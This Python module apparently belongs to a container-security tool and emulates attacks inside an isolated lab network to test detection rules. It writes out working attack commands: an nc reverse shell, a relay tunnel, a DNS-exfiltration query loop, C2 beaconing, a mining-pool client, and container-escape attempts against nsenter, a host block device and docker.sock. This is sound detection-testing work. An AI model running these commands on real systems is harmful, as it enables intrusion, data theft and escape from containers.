"""`stowaway emulate` scenarios for the named misuse rules (scheduler/detect/misuse.py).

Each scenario performs the technique for real in podman/docker containers of the emulation image
(busybox) on the run's internal network, against stand-ins that are themselves containers on that
network (a listener, a C2 web server, a stratum pool, a relay target): nothing leaves the lab.

    reverse-shell  `nc <listener> 4444 -e /bin/sh`: a shell whose stdin/stdout is the TCP socket
    tunnel         an nc redirector (`nc -ll -p 9000 -e nc <target> 8080`) used by a client, and
                   DNS tunnelling (TXT queries with 36-hex-digit labels under one parent domain)
    beacon         wget to a C2 web server every 2 s (13 beats, one deliberately missed)
    miner          an xmrig-shaped client (`/tmp/xmrig -o stratum+tcp://pool:3333 --donate-level 1`)
                   speaking stratum JSON-RPC (mining.subscribe / mining.authorize) to a pool
    escape         nsenter into pid 1's namespaces, mount of a host block device, a runtime
                   socket request: all refused inside an unprivileged container, which is fine:
                   the attempt is the detection
    new-image      a container started from an image tagged under a registry not on the
                   allow-list (`registry.stwemu.example/...`, a local tag: nothing is pulled)
    spoof          a container holding a packet socket (busybox arping) and a raw ICMP socket

Every scenario declares, per layer, what must be seen: extension rows (process command lines,
stdio_remote, raw_sockets), Zeek records (when Zeek is on PATH; run on the scenario's pcap with
the lab subnet declared a container subnet) and the scheduler's named alert on the right
container. The benign control gets "no <rule> alert" rows for every named rule.
"""
from __future__ import annotations

import logging
import shutil
import subprocess
import time
from pathlib import Path
from typing import Any, Callable

from scheduler.emulate import runner as R

log = logging.getLogger(__name__)

MISUSE_SCENARIOS = ("reverse-shell", "tunnel", "beacon", "miner", "escape", "new-image", "spoof")
#: The registry the new-image scenario tags its image under (never contacted: a local tag).
FOREIGN_REGISTRY = "registry.stwemu.example"
#: Where every emulation network lives (emulab.pick_subnet).
LAB_BLOCK = "10.213.0.0/16"
#: Rules the benign control must not raise.
NAMED_RULES = ("reverse_shell", "tunnel", "dns_tunnel", "beaconing", "cryptomining",
               "container_escape", "unexpected_image", "raw_socket", "spoofed_source")

ZeekExpect = tuple[str, Callable[[dict[str, list[dict[str, Any]]]], tuple[bool, str]]]


def emulation_config() -> Any:
    """The scheduler configuration the emulation's pipeline runs with: the operator-side settings
    a deployment would have. The benign control's worker polls api.example.com and its peer's
    :8080 every 3 s, regular enough to look like a beacon, so those destinations are on the
    beacon allow-list (exactly what docs/alerts.md tells operators to do for pollers); only the
    local registry and Docker Hub are allowed registries."""
    from scheduler.config import Config

    cfg = Config()
    cfg.detection.container_subnets = [LAB_BLOCK]     # the lab's /24s are container subnets
    m = cfg.detection.misuse
    m.allowed_registries = ["localhost", "docker.io", "quay.io"]
    m.beacon_allow = {"*": ["api.example.com", "*:8080"]}
    m.beacon_cold_start = True        # the emulation image has no training data
    return cfg


def _zeek_expects(sr: Any) -> list[ZeekExpect]:
    if not hasattr(sr, "zeek_expects"):
        sr.zeek_expects = []
    return sr.zeek_expects


def _ip(lab: Any, c: Any) -> str:
    ip = R.container_ip(lab, c)
    if not ip:
        raise RuntimeError(f"container {c.name} has no address on the lab network")
    return ip


def _conns(records: dict[str, list[dict[str, Any]]], src: str, dst: str, port: int) -> list:
    return [r for r in records.get("conn", []) if r.get("id.orig_h") == src
            and r.get("id.resp_h") == dst and r.get("id.resp_p") == port]


def _expect_rule(sr: Any, rule: str, c: Any, image: str, what: str) -> None:
    sr.expects.append(R.Expect(rule, c.id, image, what=what))


# ---------------------------------------------------------------------------------------------
# Scenarios


def scenario_reverse_shell(lab: Any, sr: Any, opts: Any) -> None:
    listener = R.start_container(lab, sr, "listener", [
        "sh", "-c", "(sleep 2; echo id; echo 'uname -a'; sleep 5; echo exit) | nc -l -p 4444"])
    web = R.start_container(lab, sr, "web", ["httpd", "-f", "-p", "8080"])
    R.assert_no_default_route(lab, web)
    lip, wip = _ip(lab, listener), _ip(lab, web)
    time.sleep(1.0)
    act = R.Action("RS1", "reverse_shell", "exec", ["nc", lip, "4444", "-e", "/bin/sh"],
                   match=f"nc {lip} 4444")
    act.container_id, act.container_name, act.image, act.container_ip = web.id, web.name, lab.image, wip
    act.start = time.time()
    web.exec_run(act.command, detach=True)
    time.sleep(8.0)
    act.end = time.time()
    sr.actions.append(act)
    # The exec row of `nc ... -e /bin/sh`, or of the shell nc turned into: busybox nc execs the
    # shell in its own process about a millisecond after connecting, so a capture that wakes late
    # (a starved host; gVisor ignores the capture's real-time priority) reads the shell's cmdline
    # for that pid. Either row, with the socket on stdio, is what the reverse_shell rule uses.
    sr.row_expects.append((
        "container_process_events",
        f"RS1 nc {lip} 4444 -e /bin/sh (exec row of nc or of the shell it became)",
        lambda r, cid=web.id: R.same_id(r.get("container_id", ""), cid)
        and (f"nc {lip} 4444" in (r.get("cmdline") or "")
             or r.get("stdio_remote") == f"tcp {lip}:4444")))
    sr.row_expects.append((
        "container_processes", f"a shell in {web.name} with stdio on tcp {lip}:4444",
        lambda r, cid=web.id: R.same_id(r.get("container_id", ""), cid)
        and r.get("stdio_remote") == f"tcp {lip}:4444"))
    _zeek_expects(sr).append((f"conn {wip} -> {lip}:4444 (the shell's connection)",
                              lambda recs: _found(_conns(recs, wip, lip, 4444))))
    _expect_rule(sr, "reverse_shell", web, lab.image, f"reverse_shell alert on {web.name}")
    sr.benign.append({"containers": [listener.name], "image": lab.image,
                      "what": "the attacker's listener (nc -l -p 4444) sending commands"})
    R.stop_container(web)
    R.stop_container(listener)


def scenario_tunnel(lab: Any, sr: Any, opts: Any) -> None:
    target = R.start_container(lab, sr, "target", ["httpd", "-f", "-p", "8080"])
    tip = _ip(lab, target)
    relay_cmd = ["nc", "-ll", "-p", "9000", "-e", "nc", tip, "8080"]
    relay = R.start_container(lab, sr, "relay", relay_cmd)
    R.assert_no_default_route(lab, relay)
    rip = _ip(lab, relay)
    client = R.start_container(lab, sr, "client", ["sleep", "60"])
    cip = _ip(lab, client)
    time.sleep(1.0)
    for i in range(2):
        client.exec_run(["wget", "-q", "-O", "/dev/null", f"http://{rip}:9000/via-relay-{i}"])
        time.sleep(0.5)
    sr.actions.append(R.Action("T1", "tunnel", "run", relay_cmd, match="nc -ll -p 9000",
                               container_id=relay.id, container_name=relay.name, image=lab.image,
                               container_ip=rip, start=sr.start, end=time.time()))
    sr.process_expects.append((relay.id, "-e nc", f"T1 {' '.join(relay_cmd)}", False))
    _expect_rule(sr, "tunnel", relay, lab.image, f"tunnel alert on {relay.name}")
    _zeek_expects(sr).append((f"conn {cip} -> relay {rip}:9000 and relay -> {tip}:8080",
                              lambda recs: _found(_conns(recs, cip, rip, 9000)
                                                  and _conns(recs, rip, tip, 8080))))
    # DNS tunnelling: 14 TXT queries with 36-hex-digit labels under one parent.
    loop = ("i=0; while [ $i -lt 14 ]; do i=$((i+1)); "
            "l=$(head -c 18 /dev/urandom | xxd -p | tr -d '\\n'); "
            "nslookup -type=TXT $l.t.exfil-lab.example >/dev/null 2>&1; sleep 0.3; done")
    act = R.Action("T2", "dns_tunnel", "exec", ["sh", "-c", loop], match="exfil-lab.example",
                   container_id=client.id, container_name=client.name, image=lab.image,
                   container_ip=cip)
    act.start = time.time()
    client.exec_run(act.command)
    act.end = time.time()
    sr.actions.append(act)
    sr.process_expects.append((client.id, "exfil-lab.example", "T2 nslookup -type=TXT <hex>.t.exfil-lab.example", False))
    _expect_rule(sr, "dns_tunnel", client, lab.image, f"dns_tunnel alert on {client.name}")
    _zeek_expects(sr).append((f"dns: >= 10 distinct names under exfil-lab.example from {cip}",
                              lambda recs: _count_ok(len({r.get("query") for r in recs.get("dns", [])
                                                          if r.get("id.orig_h") == cip and
                                                          str(r.get("query", "")).endswith("exfil-lab.example")}), 10)))
    sr.benign.append({"containers": [target.name], "image": lab.image, "what": "web server behind the relay"})
    for c in (client, relay, target):
        R.stop_container(c)


def scenario_beacon(lab: Any, sr: Any, opts: Any) -> None:
    c2 = R.start_container(lab, sr, "c2", ["httpd", "-f", "-p", "9090"])
    c2ip = _ip(lab, c2)
    loop = (f"i=0; while [ $i -lt 14 ]; do i=$((i+1)); [ $i -eq 7 ] || "
            f"wget -q -O /dev/null http://{c2ip}:9090/beacon; sleep 2; done")
    implant = R.start_container(lab, sr, "implant", ["sh", "-c", loop])
    R.assert_no_default_route(lab, implant)
    iip = _ip(lab, implant)
    act = R.Action("B1", "beaconing", "run", ["sh", "-c", loop], match=f"{c2ip}:9090",
                   container_id=implant.id, container_name=implant.name, image=lab.image,
                   container_ip=iip, start=time.time())
    _wait_exit(implant, 60)
    act.end = time.time()
    sr.actions.append(act)
    sr.process_expects.append((implant.id, f"http://{c2ip}:9090/beacon", "B1 wget beacon", False))
    _expect_rule(sr, "beaconing", implant, lab.image, f"beaconing alert on {implant.name}")
    _zeek_expects(sr).append((f">= 12 conns {iip} -> {c2ip}:9090",
                              lambda recs: _count_ok(len(_conns(recs, iip, c2ip, 9090)), 12)))
    sr.benign.append({"containers": [c2.name], "image": lab.image, "what": "the C2 web server"})
    R.stop_container(implant)
    R.stop_container(c2)


def _wait_exit(c: Any, timeout: float) -> None:
    try:
        c.wait(timeout=timeout)
    except Exception as exc:  # noqa: BLE001 - a timeout leaves the container to the cleanup
        log.debug("wait %s: %s", c.name, exc)


#: An xmrig-shaped stratum client in busybox sh: speaks mining.subscribe + mining.authorize.
XMRIG_SCRIPT = r"""#!/bin/sh
url=""; user=x
while [ $# -gt 0 ]; do case "$1" in -o) url="$2"; shift;; -u) user="$2"; shift;; esac; shift; done
hp=${url#*://}; host=${hp%:*}; port=${hp##*:}
printf '{"id":1,"method":"mining.subscribe","params":["XMRig/6.21.0"]}\n{"id":2,"method":"mining.authorize","params":["%s","x"]}\n' "$user" | nc -w 3 "$host" "$port"
sleep 3
"""


def scenario_miner(lab: Any, sr: Any, opts: Any) -> None:
    pool = R.start_container(lab, sr, "pool", [
        "sh", "-c", "while true; do printf '{\"id\":1,\"result\":[[\"mining.notify\",\"ae68\"],"
                    "\"08000002\",4],\"error\":null}\\n' | nc -l -p 3333; done"])
    pip = _ip(lab, pool)
    miner = R.start_container(lab, sr, "miner", ["sleep", "60"])
    R.assert_no_default_route(lab, miner)
    mip = _ip(lab, miner)
    miner.exec_run(["sh", "-c", f"cat > /tmp/xmrig <<'EOF'\n{XMRIG_SCRIPT}EOF\nchmod +x /tmp/xmrig"])
    time.sleep(1.0)
    cmd = ["/tmp/xmrig", "-o", f"stratum+tcp://{pip}:3333", "-u", "4AwalletEMU", "--donate-level", "1"]
    act = R.Action("M1", "cryptomining", "exec", cmd, match="stratum+tcp://", container_id=miner.id,
                   container_name=miner.name, image=lab.image, container_ip=mip)
    act.start = time.time()
    res = miner.exec_run(cmd)
    act.end = time.time()
    act.exit_code = res.exit_code
    act.output = (res.output or b"").decode("utf-8", "replace")[:500]
    sr.actions.append(act)
    sr.process_expects.append((miner.id, "--donate-level", "M1 /tmp/xmrig -o stratum+tcp://pool:3333", False))
    _expect_rule(sr, "cryptomining", miner, lab.image, f"cryptomining alert on {miner.name}")
    _zeek_expects(sr).append((f"stratum.log: mining.subscribe {mip} -> {pip}:3333",
                              lambda recs: _found([r for r in recs.get("stratum", [])
                                                   if r.get("id.orig_h") == mip])))
    sr.benign.append({"containers": [pool.name], "image": lab.image, "what": "the stand-in mining pool"})
    R.stop_container(miner)
    R.stop_container(pool)


def scenario_escape(lab: Any, sr: Any, opts: Any) -> None:
    c = R.start_container(lab, sr, "escape", ["sleep", "60"])
    R.assert_no_default_route(lab, c)
    time.sleep(1.0)
    steps = [("E1", ["nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh", "-c", "id"], "nsenter -t 1"),
             ("E2", ["mount", "/dev/sda1", "/mnt"], "mount /dev/sda1"),
             ("E3", ["sh", "-c", "printf 'GET /containers/json HTTP/1.0\\r\\n\\r\\n' | "
                                 "nc local:/var/run/docker.sock"], "docker.sock")]
    for aid, cmd, needle in steps:
        act = R.exec_action(lab, c, R.Action(aid, "container_escape", "exec", cmd, match=needle))
        sr.actions.append(act)
        sr.process_expects.append((c.id, needle, f"{aid} {' '.join(cmd)[:50]}", False))
        time.sleep(0.3)
    _expect_rule(sr, "container_escape", c, lab.image, f"container_escape alert on {c.name}")
    R.stop_container(c)


def scenario_new_image(lab: Any, sr: Any, opts: Any) -> None:
    repo = f"{FOREIGN_REGISTRY}/tools/scanner"
    tag = f"emu-{lab.run_id}"
    new = f"{repo}:{tag}"
    lab.client.images.get(lab.image).tag(repo, tag)
    lab.cleanup.push(f"image tag {new}", lambda: _untag(lab, new))
    saved = lab.image
    lab.image = new
    try:
        c = R.start_container(lab, sr, "newimage", ["sh", "-c", "sleep 2"])
    finally:
        lab.image = saved
    sr.containers[c.id]["image"] = new
    _wait_exit(c, 20)
    sr.actions.append(R.Action("N1", "unexpected_image", "run", ["sh", "-c", "sleep 2"],
                               container_id=c.id, container_name=c.name, image=new,
                               start=sr.containers[c.id]["created"], end=time.time()))
    sr.lifecycle_expects.append((c.id, f"create/start of {c.name} ({new})"))
    sr.expects.append(R.Expect("unexpected_image", "", new,
                               what=f"unexpected_image alert for {new} (registry not allowed)"))
    R.stop_container(c)


def _untag(lab: Any, ref: str) -> None:
    try:
        lab.client.images.remove(ref)
    except Exception as exc:  # noqa: BLE001 - already gone is fine
        log.debug("untag %s: %s", ref, exc)


def scenario_spoof(lab: Any, sr: Any, opts: Any) -> None:
    peer = R.start_container(lab, sr, "peer", ["sleep", "60"])
    pip = _ip(lab, peer)
    kw = R.run_kwargs(lab, "spoof")
    kw.pop("detach", None)
    spare = _spare_address(pip)
    net = pip.rsplit(".", 1)[0]
    gw = net + ".1"
    # arping: a packet socket; then a second address no container holds, and pings from it to
    # hosts of the lab (the peer and the stand-ins answer: ICMP "connections" in Zeek from a
    # source no container has).
    cmd = ["sh", "-c", f"arping -c 6 -w 7 -I eth0 {pip}; ip addr add {spare}/24 dev eth0 && "
                       f"for t in {pip} {gw} {net}.250 {net}.201 {net}.210; do "
                       f"ping -c 2 -W 1 -I {spare} $t; done"]
    c = lab.client.containers.create(lab.image, cmd, name=f"{lab.prefix}spoof",
                                     cap_add=["NET_RAW", "NET_ADMIN"], **kw)
    lab.known_ids.add(c.id)
    sr.containers[c.id] = {"id": c.id, "name": f"{lab.prefix}spoof", "image": lab.image,
                           "role": "spoof", "command": cmd, "created": time.time(),
                           "auto_remove": False}
    c.start()
    R.assert_no_default_route(lab, c)
    _wait_exit(c, 30)
    sr.actions.append(R.Action("S1", "raw_socket", "run", cmd, match="arping",
                               container_id=c.id, container_name=c.name, image=lab.image,
                               start=sr.containers[c.id]["created"], end=time.time()))
    sr.row_expects.append(("container_processes", f"arping in {c.name} holding a packet socket",
                           lambda r, cid=c.id: R.same_id(r.get("container_id", ""), cid)
                           and "packet" in (r.get("raw_sockets") or "")))
    # (Podman lists only NET_ADMIN as added: NET_RAW is in its default set; Docker lists both.)
    sr.row_expects.append(("container_inventory", f"{c.name} with NET_ADMIN added",
                           lambda r, cid=c.id: R.same_id(r.get("id", ""), cid)
                           and "NET_ADMIN" in (r.get("cap_add") or "").split(",")))
    _expect_rule(sr, "raw_socket", c, lab.image, f"raw_socket alert on {c.name}")
    sr.expects.append(R.Expect("spoofed_source", "", "",
                               what=f"spoofed_source alert for {spare} (held by no container)"))
    _zeek_expects(sr).append((f"conn records from {spare} (no container's address)",
                              lambda recs: _count_ok(len([r for r in recs.get("conn", [])
                                                          if r.get("id.orig_h") == spare]), 3)))
    R.stop_container(c)
    R.stop_container(peer)


def _spare_address(peer_ip: str) -> str:
    """An address of the lab /24 that neither the runtime's lease range (.2-.127) nor the
    stand-ins (.201-.210, .250) use."""
    return peer_ip.rsplit(".", 1)[0] + ".199"


def _found(items: Any) -> tuple[bool, str]:
    return (bool(items), "seen" if items else "not in the logs")


def _count_ok(n: int, need: int) -> tuple[bool, str]:
    return n >= need, f"{n} (need {need})"


RUNNERS: dict[str, Callable[[Any, Any, Any], None]] = {
    "reverse-shell": scenario_reverse_shell,
    "tunnel": scenario_tunnel,
    "beacon": scenario_beacon,
    "miner": scenario_miner,
    "escape": scenario_escape,
    "new-image": scenario_new_image,
    "spoof": scenario_spoof,
}


def benign_forbids(sr: Any) -> None:
    """The benign control must raise none of the named rules on its containers."""
    ids = set(sr.containers)
    for rule in NAMED_RULES:
        sr.expects.append(R.Expect(rule, present=False, forbid_ids=ids,
                                   what=f"no {rule} alert on the benign control"))


# ---------------------------------------------------------------------------------------------
# Zeek on the scenario's pcap


ZEEK_STREAMS = ("conn", "dns", "http", "ssl", "stratum", "container_geo")


def run_zeek(pcap: Path, out_dir: Path, lab_subnet: str) -> tuple[Path | None, str]:
    """Zeek (with the Stowaway package) on a scenario pcap, the lab subnet declared a container
    subnet; (log directory, "") or (None, why)."""
    if not shutil.which("zeek"):
        return None, "zeek not on PATH"
    if not pcap.exists():
        return None, f"no pcap {pcap}"
    out_dir.mkdir(parents=True, exist_ok=True)
    scripts = Path(__file__).resolve().parents[2] / "zeek_scripts"
    redef = f"redef Stowaway::container_subnets += {{ {lab_subnet} }};" if lab_subnet else ""
    cmd = ["zeek", "-C", "-r", str(pcap), str(scripts)] + (["-e", redef] if redef else [])
    proc = subprocess.run(cmd, cwd=out_dir, capture_output=True, text=True, timeout=180)
    if proc.returncode != 0:
        return None, f"zeek failed: {proc.stderr.strip()[:200]}"
    return out_dir, ""


def load_zeek_records(zdir: Path, t0: float, t1: float) -> dict[str, list[dict[str, Any]]]:
    from scheduler.collect import zeeklog

    out: dict[str, list[dict[str, Any]]] = {}
    for stream in ZEEK_STREAMS:
        recs = []
        for path in zeeklog.find_logs(zdir, stream):
            for rec in zeeklog.iter_zeek_log(path):
                ts = rec.get("ts")
                if isinstance(ts, (int, float)) and t0 <= ts <= t1:
                    recs.append(rec)
        out[stream] = recs
    return out


def check_zeek_expects(sr: Any, zdir: str | None, why: str) -> list[Any]:
    """Zeek rows of a misuse scenario (pass/fail with logs, "not checked" without)."""
    exps: list[ZeekExpect] = getattr(sr, "zeek_expects", [])
    if not exps:
        return []
    if not zdir:
        return [R.Check(sr.name, "zeek", what, R.NOT_CHECKED, why) for what, _ in exps]
    try:
        recs = load_zeek_records(Path(zdir), sr.start - 5, sr.end + 10)
    except Exception as exc:  # noqa: BLE001 - unreadable logs fail the layer, reported
        return [R.Check(sr.name, "zeek", "read Zeek logs", R.FAIL, str(exc))]
    out = []
    for what, fn in exps:
        ok, detail = fn(recs)
        out.append(R.Check(sr.name, "zeek", what, R.PASS if ok else R.FAIL, detail))
    return out


# ---------------------------------------------------------------------------------------------
# Registration with the runner


class _Hooks:
    """What the runner calls for a scenario of this set (see runner.EXTRA_SCENARIOS)."""

    @staticmethod
    def zeek(sr: Any, lab: Any, opts: Any, workdir: Path) -> tuple[Path | None, str]:
        """Zeek on the scenario pcap (into --zeek-logs DIR/<scenario> when given), the lab
        subnet declared a container subnet; its logs go into the recording."""
        if sr.pcap is None:
            return None, "no pcap (--live)"
        out = (Path(opts.zeek_logs) if opts.zeek_logs else workdir / "zeek") / sr.name
        return run_zeek(sr.pcap, out, str(lab.net.subnet) if lab.net is not None else "")

    check_zeek = staticmethod(check_zeek_expects)


def _benign_and_named_rules(original: Callable[[Any, Any, Any], None]) -> Callable[[Any, Any, Any], None]:
    def run(lab: Any, sr: Any, opts: Any) -> None:
        original(lab, sr, opts)
        benign_forbids(sr)
    run.named_rules = True  # type: ignore[attr-defined]
    return run


def install() -> None:
    """Register the scenarios, their Zeek hooks, the emulation config and the benign control's
    "no named alert" checks with the runner (idempotent)."""
    R.RUNNERS.update(RUNNERS)
    for name in (*MISUSE_SCENARIOS, "benign"):   # the control too: its network must be quiet
        R.EXTRA_SCENARIOS[name] = _Hooks
    R.PIPELINE_CONFIG = emulation_config
    if not getattr(R.RUNNERS["benign"], "named_rules", False):
        R.RUNNERS["benign"] = _benign_and_named_rules(R.RUNNERS["benign"])
